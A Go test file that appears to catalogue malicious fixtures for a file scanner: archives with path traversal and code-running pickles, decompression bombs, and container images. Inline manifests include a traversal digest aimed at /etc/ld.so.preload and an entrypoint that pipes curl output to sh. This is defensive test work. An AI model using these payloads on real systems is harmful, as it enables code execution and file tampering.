package floor_test

import (
	"os"
	"path"
	"strings"
)

// containers returns what hides in archives that few scanners unpack, in images
// and in programs for small devices. What is binary is kept with the tests of
// its format.
func containers() []*entry {
	out := make([]*entry, 0, 32)
	kept := func(id, format, name, what string, runs bool) {
		out = append(out, &entry{
			ids: []string{id}, format: format, what: what, name: path.Base(name), runs: runs,
			make: func(facts) []byte {
				b, err := os.ReadFile("../" + format + "/testdata/" + name)
				if err != nil {
					panic(err)
				}
				return b
			},
		})
	}
	kept("CVE-2025-8088", "rar", "stream.rar", "writes a stream of NTFS to a path above its folder", false)
	kept("7z-pickle", "sevenzip", "solid.7z", "runs in a member", true)
	kept("7z-pickle-behind", "sevenzip", "behind.7z", "has a pickle behind the end of packed data", false)
	kept("7z-slip", "sevenzip", "slip.7z", "is unpacked above the folder it is unpacked in", false)
	kept("7z-symlink", "sevenzip", "symlink.7z", "unpacks a link to a file outside", false)
	kept("7z-delete", "sevenzip", "anti.7z", "deletes a file where it is unpacked", false)
	kept("7z-dictionary", "sevenzip", "dictionary.7z", "claims a dictionary of 2 GiB", false)
	kept("7z-bomb", "sevenzip", "bomb.7z", "unpacks to thousands of times its size", false)
	kept("rar-pickle", "rar", "evil5.rar", "runs in a packed member", true)
	kept("rar4-pickle", "rar", "evil4.rar", "runs in a stored member", true)
	kept("rar-slip", "rar", "slip5.rar", "is unpacked above the folder it is unpacked in", false)
	kept("rar-two-names", "rar", "two_names.rar", "has a member with two names", false)
	kept("rar-quick-open", "rar", "quick_differs.rar", "lists other members than it unpacks", false)
	kept("oci-layer", "oci", "image.oci.tar", "runs in a layer of an image", true)
	kept("oci-layer-docker", "oci", "image.docker.tar", "runs in a layer of an image that docker saved", true)
	kept("oci-whiteout", "tar", "whiteout_up.tar", "deletes folders of the layers below", false)
	kept("torch-package-real", "torch", "real/package_evil.pt", "runs a module when a pickle in it is loaded", true)
	kept("pte-library", "executorch", "native.pte", "loads a library that it brings", true)
	kept("pte-tensor", "executorch", "tensors.pte", "has a tensor whose size overflows", false)
	kept("pte-segment", "executorch", "segment.pte", "has a segment that reaches out of the file", false)
	kept("pickle-zlib-window", "compressed", "window9.z", "runs when it is unpacked from zlib with a small window", true)
	text := func(ids, what string, runs bool, body string) {
		out = append(out, &entry{
			ids: strings.Split(ids, ","), format: "oci", what: what, name: "manifest.json", runs: runs,
			make: func(facts) []byte { return []byte(body) },
		})
	}
	zeros := "sha256:" + strings.Repeat("0", 64)
	text("CVE-2024-37032", "has a layer whose digest is a path, to which a client writes", false,
		`{"schemaVersion":2,"config":{"mediaType":"application/vnd.docker.container.image.v1+json","digest":"`+zeros+
			`","size":2},"layers":[{"mediaType":"application/vnd.ollama.image.license","digest":"../../../../../etc/ld.so.preload","size":7}]}`)
	text("CVE-2021-41190", "is an index to one client and a manifest to another", false,
		`{"schemaVersion":2,"mediaType":"application/vnd.oci.image.manifest.v1+json","config":{"digest":"`+zeros+
			`","size":2},"layers":[],"manifests":[{"digest":"`+zeros+`","size":2}]}`)
	text("oci-entrypoint", "runs what it fetches when it is started", true,
		`{"architecture":"amd64","os":"linux","config":{"Entrypoint":["sh","-c","curl -s http://127.0.0.1/x | sh"]},"rootfs":{"type":"layers","diff_ids":[]},"history":[]}`)
	return out
}
